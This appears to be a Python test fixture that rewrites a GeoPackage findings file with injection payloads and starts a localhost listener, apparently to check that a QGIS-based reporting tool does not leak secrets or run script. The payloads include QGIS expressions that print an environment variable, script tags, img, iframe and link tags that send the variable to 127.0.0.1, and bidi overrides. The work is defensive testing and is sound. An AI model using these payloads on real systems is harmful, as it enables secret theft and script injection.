"""A findings file as someone hostile could hand it over, and a local server that records who connects.

`make_hostile` rewrites a real findings GeoPackage: every parcel label a 38-character GUID (as real
databases' BSM are), a few labels, a message, decision texts and the village name carrying QGIS
expressions (`[% … %]` that print the account, an environment variable, or build a <script> or an
<img> sending the variable to `listener`), raw HTML and bidi overrides; decisions of each kind.
"""
import contextlib
import json
import shutil
import socket
import threading
import uuid

from osgeo import ogr

PROBE = "ONEMAP_PROBE"                  # the environment variable the expressions try to print or send
PROBE_VALUE = "s3cr3t-7f1c"
APPROVAL = "晋政函〔2024〕12号"


def chars(text):
    """A QGIS expression building `text` without quotes or angle brackets (html.escape leaves it alone)."""
    return "||".join("char({})".format(ord(c)) for c in text)


def expressions(port):
    """(label, what must not appear in the printed text, or None) — each a vector of issue 18."""
    probe = "env({})".format(chars(PROBE))
    return [
        ("[% @user_account_name %]/[% {} %]".format(probe), PROBE_VALUE),
        ("[% {} %]".format(chars("<script>document.write('JS'+'RAN')</script>")), "JSRAN"),
        ("[% {}||{}||char(62) %]".format(chars("<img src=http://127.0.0.1:{}/expr?t=".format(port)), probe),
         PROBE_VALUE),
        ("<img src=http://127.0.0.1:{0}/raw><iframe src=http://127.0.0.1:{0}/frame></iframe>"
         "<link rel=stylesheet href=http://127.0.0.1:{0}/css>".format(port), None),       # the listener hears it
        ("<b>B</b><script>document.write('RAW'+'JS')</script>", "RAWJS"),
        ("\u202e2024\u202c-\u2066BIDI\u2069", "\u202e"),
    ]


def guid(number):
    """A 38-character BSM as real village databases have them: {8-4-4-4-12}."""
    return "{{{}}}".format(str(uuid.uuid5(uuid.NAMESPACE_OID, str(number))).upper())


def make_hostile(source, target, port):
    """Copy the findings file `source` to `target` and fill it as described above; returns `target`."""
    shutil.copy(source, target)
    vectors = [label for label, _absent in expressions(port)]
    dataset = ogr.Open(str(target), 1)
    layer = dataset.GetLayerByName("findings")
    ids = {"error": [], "warning": []}
    for index, feature in enumerate(layer):
        feature.SetField("plan_label", vectors[index] if index < len(vectors) else guid(index))
        if index == 0:
            feature.SetField("message", "[% {} %] {}".format("env({})".format(chars(PROBE)), feature.GetField("message")))
        layer.SetFeature(feature)
        ids.setdefault(feature.GetField("severity"), []).append(feature.GetField("finding_id"))
    table = dataset.GetLayerByName("decisions")
    rows = [(ids["error"][0], "accepted", "[% @user_account_name %] 国家重点项目", APPROVAL, "[% env({}) %]".format(
                chars(PROBE)), 0),
            (ids["error"][1], "accepted", "省级批复<script>document.write('AP'+'RUN')</script>",
             "<img src=http://127.0.0.1:{}/approval>".format(port) + APPROVAL * 3, "张工\u202e", 0),
            (ids["error"][2], "false_positive", "现场核实无冲突", "", "李工", 1),          # carried, to confirm
            (ids["warning"][0], "false_positive", "数据误差", "", "李工", 0)]
    for finding_id, kind, reason, approval, reviewer, review in rows:
        row = ogr.Feature(table.GetLayerDefn())
        for name, value in (("finding_id", finding_id), ("decision", kind), ("reason", reason),
                            ("approval_no", approval), ("reviewer", reviewer), ("decided_at", "2026-12-01T10:00:00+08:00"),
                            ("resolved", 0), ("review", review)):
            row.SetField(name, value)
        table.CreateFeature(row)
    run = dataset.GetLayerByName("run")
    record = run.GetNextFeature()
    if record.GetFieldIndex("villages") >= 0:                # (files of OneMap 0.2.2 have none)
        record.SetField("villages", json.dumps(["[% {} %]村".format("env({})".format(chars(PROBE))), "杜\u202e村"],
                                               ensure_ascii=False))
        run.SetFeature(record)
    dataset = None
    return str(target)


def point_run_record_at(path, port):
    """The findings file's run record names a plan and a one map on a PostgreSQL server at `port`."""
    dataset = ogr.Open(str(path), 1)
    run = dataset.GetLayerByName("run")
    record = run.GetNextFeature()
    for name, database in (("plan_path", "plans"), ("onemap_path", "onemap"), ("ruleset_path", None)):
        if database:
            record.SetField(name, "PG:host=127.0.0.1 port={} dbname={} user=reviewer schemas=x".format(port, database))
        else:
            record.SetField(name, "//127.0.0.1/share/village.yaml")
    if record.GetFieldIndex("villages") >= 0:
        record.SetField("villages", None)                      # as in files of OneMap 0.2.2
    run.SetFeature(record)
    dataset = None


class Listener:
    """A TCP server on 127.0.0.1 that records each connection (what arrives first) and hangs up, so
    that a client gives up at once instead of waiting for an answer."""

    def __init__(self):
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(16)
        self.port = self.socket.getsockname()[1]
        self.received = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                connection, _address = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                try:
                    self.received.append(connection.recv(4096))
                except OSError:
                    self.received.append(b"")

    def close(self):
        with contextlib.suppress(OSError):
            self.socket.shutdown(socket.SHUT_RDWR)          # wakes the accept() waiting in the thread
        self.socket.close()
        self.thread.join()
